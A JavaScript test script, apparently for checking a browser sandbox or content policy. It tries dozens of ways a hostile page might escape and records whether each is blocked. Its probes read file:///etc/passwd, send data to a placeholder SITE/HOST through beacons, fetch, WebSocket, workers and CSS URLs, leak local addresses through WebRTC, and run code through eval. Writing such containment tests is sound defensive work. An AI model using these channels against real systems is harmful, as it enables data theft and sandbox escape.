// What a hostile page would try: each returns a promise that is kept if it worked, and broken if it was refused.
// SITE is an address where nobody must come, HOST its host and port, UDP a port that must hear nothing.
(() => {
  const element = (name, attributes, place = document.body) =>
    new Promise((done, refused) => {
      const made = Object.assign(document.createElement(name), { onload: done, onerror: refused });
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
      made.addEventListener("loadeddata", done);
      place.append(made);
    });
  const link = (rel, more = {}) => element("link", { rel, href: `SITE/link-${rel}`, ...more }, document.head);
  // A frame loads something empty where its page is refused, and a word of the policy comes before that.
  const frame = (attributes) =>
    new Promise((done, refused) => {
      addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
        if (effectiveDirective === "frame-src") refused(new Error(blockedURI));
      });
      element("iframe", attributes).then(() => setTimeout(done, 500), refused);
    });
  const style = (css) => {
    const made = document.createElement("style");
    made.textContent = css;
    document.head.append(made);
    document.body.insertAdjacentHTML("beforeend", "<p class='tried'>tried</p>");
    return Promise.reject(new Error("not to be seen from here"));
  };
  const opens = (made) =>
    new Promise((done, refused) => {
      made.onopen = made.onmessage = done;
      made.onerror = refused;
    });
  const code = "postMessage('ran')";
  const blob = (type = "text/javascript", text = code) => URL.createObjectURL(new Blob([text], { type }));
  const request = (url) =>
    new Promise((done, refused) => {
      const made = new XMLHttpRequest();
      made.open("GET", url);
      Object.assign(made, { onload: done, onerror: refused, onabort: refused });
      made.send();
    });
  const ran = (run) => {
    window.tryRan = undefined;
    run();
    return window.tryRan ? Promise.resolve() : Promise.reject(new Error("did not run"));
  };
  const call = (server) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: server, username: "u", credential: "c" }] });
    return new Promise((done, refused) => {
      connection.onicecandidate = ({ candidate }) => {
        if (candidate?.candidate) done(); // it knows an address of this machine
        if (!candidate) refused(new Error("no way was found"));
      };
      connection.createDataChannel("x");
      connection.createOffer().then((offer) => connection.setLocalDescription(offer)).catch(refused);
    });
  };
  const tries = {
    // First those that tell nothing of what comes of them.
    preconnect: () => link("preconnect"),
    dnsPrefetch: () => link("dns-prefetch"),
    prefetch: () => link("prefetch"),
    prerender: () => link("prerender"),
    speculation: () => {
      const made = Object.assign(document.createElement("script"), { type: "speculationrules" });
      made.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["SITE/speculation"] }] });
      document.head.append(made);
      return Promise.reject(new Error("not to be seen from here"));
    },
    beacon: () => (navigator.sendBeacon("SITE/beacon", "x"), Promise.reject(new Error("not to be seen from here"))),
    styleUrl: () => style(".tried { background: url(SITE/style-url) }"),
    styleImport: () => style("@import url(SITE/style-import);"),
    styleFont: () => style("@font-face { font-family: tried; src: url(SITE/font) } .tried { font-family: tried }"),
    styleCursor: () => style(".tried { cursor: url(SITE/cursor), auto; list-style: url(SITE/list) }"),
    preload: () => link("preload", { as: "image" }),
    modulePreload: () => link("modulepreload"),
    stylesheet: () => link("stylesheet"),
    icon: () => (link("icon"), Promise.reject(new Error("not to be seen from here"))),
    manifest: () => (link("manifest"), Promise.reject(new Error("not to be seen from here"))),
    file: () => fetch("file:///etc/passwd").then((answer) => answer.text()),
    pathOfFile: () => fetch("/etc/passwd").then((answer) => answer.text()),
    fileBeside: () => fetch("parts/katex.js").then((answer) => answer.text()),
    ownFile: () => fetch(location.href).then((answer) => answer.text()),
    fileByRequest: () => request("file:///etc/passwd"),
    fileInPicture: () => element("img", { src: "file:///usr/share/pixmaps/debian-logo.png" }),
    fileInScript: () => element("script", { src: "parts/katex.js" }),
    fileInFrame: () => frame({ src: "file:///etc/passwd" }),
    fetch: () => fetch("SITE/fetch"),
    fetchBlind: () => fetch("SITE/blind", { mode: "no-cors", method: "POST", body: "x", keepalive: true }),
    request: () => request("SITE/request"),
    webSocket: () => opens(new WebSocket("ws://HOST/socket")),
    eventSource: () => opens(new EventSource("SITE/events")),
    webTransport: () => new WebTransport("https://HOST/transport").ready,
    webRtc: () => call("stun:127.0.0.1:UDP"),
    webRtcByTcp: () => call("turn:HOST?transport=tcp"),
    webRtcInFrame: () => {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      const mine = window.RTCPeerConnection;
      window.RTCPeerConnection = frame.contentWindow.RTCPeerConnection;
      const called = window.RTCPeerConnection ? call("stun:127.0.0.1:UDP") : Promise.reject(new Error("there is none"));
      window.RTCPeerConnection = mine;
      return called;
    },
    picture: () => element("img", { src: "SITE/picture" }),
    pictures: () => element("img", { srcset: "SITE/pictures 1x" }),
    frame: () => frame({ src: "SITE/frame" }),
    object: () => element("object", { data: "SITE/object" }),
    embed: () => element("embed", { src: "SITE/embed" }),
    video: () => element("video", { src: "SITE/video", poster: "SITE/poster", preload: "auto" }),
    audio: () => element("audio", { src: "SITE/audio", preload: "auto" }),
    script: () => element("script", { src: "SITE/script" }),
    module: () => element("script", { src: "SITE/module", type: "module" }),
    worker: () => opens(new Worker("SITE/worker")),
    workerOfOurs: () => opens(new Worker(blob())),
    workerOfData: () => opens(new Worker(`data:text/javascript,${code}`)),
    sharedWorker: () => opens(new SharedWorker(blob())),
    serviceWorker: () => navigator.serviceWorker.register("SITE/service"),
    worklet: () => new AudioContext().audioWorklet.addModule("SITE/worklet"),
    importRemote: () => import("SITE/import"),
    importFile: () => import("./parts/katex.js"),
    importData: () => import("data:text/javascript,export default 1"),
    importBlob: () => import(blob("text/javascript", "export default 1")),
    eval: () => ran(() => eval("window.tryRan = 1")),
    evalIndirect: () => ran(() => (0, eval)("window.tryRan = 1")),
    newFunction: () => ran(() => new Function("window.tryRan = 1")()),
    laterText: () => new Promise((done, refused) => (setTimeout("window.tryLater = 1"), setTimeout(() => (window.tryLater ? done() : refused(new Error("did not run"))), 20))),
    inlineScript: () => ran(() => document.head.append(Object.assign(document.createElement("script"), { textContent: "window.tryRan = 1" }))),
    inlineHandler: () => ran(() => Object.assign(document.body.appendChild(document.createElement("b")), { innerHTML: "<i onclick='window.tryRan = 1'>x</i>" }).firstChild.click()),
    wasm: () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
    fileDialog: () => window.showOpenFilePicker(),
  };
  window.tried = {};
  const one = async (name) => {
    try {
      await tries[name]();
      window.tried[name] = "worked";
    } catch (error) {
      window.tried[name] = `refused: ${error?.name ?? error?.type ?? error}`;
    }
  };
  const limit = (name) =>
    Promise.race([one(name), new Promise((done) => setTimeout(done, 3000))]).then(() => (window.tried[name] ??= "nothing came"));
  window.triedAll = false;
  void Promise.all(Object.keys(tries).map(limit)).then(() => (window.triedAll = true));
  return Object.keys(tries);
})()
